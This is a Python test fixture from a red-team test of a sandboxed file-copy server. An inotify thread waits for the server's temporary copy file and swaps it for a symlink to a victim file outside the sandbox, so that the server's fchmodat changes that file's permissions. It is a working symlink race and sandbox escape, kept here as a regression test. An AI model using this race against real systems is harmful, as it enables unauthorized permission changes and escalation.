# Session code for TestServeCopyTempSwap (red team 2, F10). The test
# prepends VICTIM, a file outside every root. A background thread watches the
# sandbox (the cwd) for the server's temporary copy file .tracecell-copy-*
# and, while the server still writes it, moves it away and puts a symlink to
# VICTIM at its name: the untraced server then ran fchmodat(dirfd, tmp, perm,
# 0), which follows the symlink and chmods VICTIM.
import ctypes, os, struct, threading

state = {"swapped": 0, "errors": []}


def _watch():
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(0)
    libc.inotify_add_watch(fd, os.getcwd().encode(), 0x100)  # IN_CREATE
    seen = set()
    while True:
        buf = os.read(fd, 65536)
        i = 0
        while i < len(buf):
            _wd, _mask, _cookie, ln = struct.unpack_from("iIII", buf, i)
            name = buf[i + 16:i + 16 + ln].rstrip(b"\0").decode()
            i += 16 + ln
            if name.startswith(".tracecell-copy-") and name not in seen:
                seen.add(name)
                try:
                    os.rename(name, "moved" + name)
                    os.symlink(VICTIM, name)
                    state["swapped"] += 1
                except OSError as e:
                    state["errors"].append(str(e))


threading.Thread(target=_watch, daemon=True).start()
"armed"
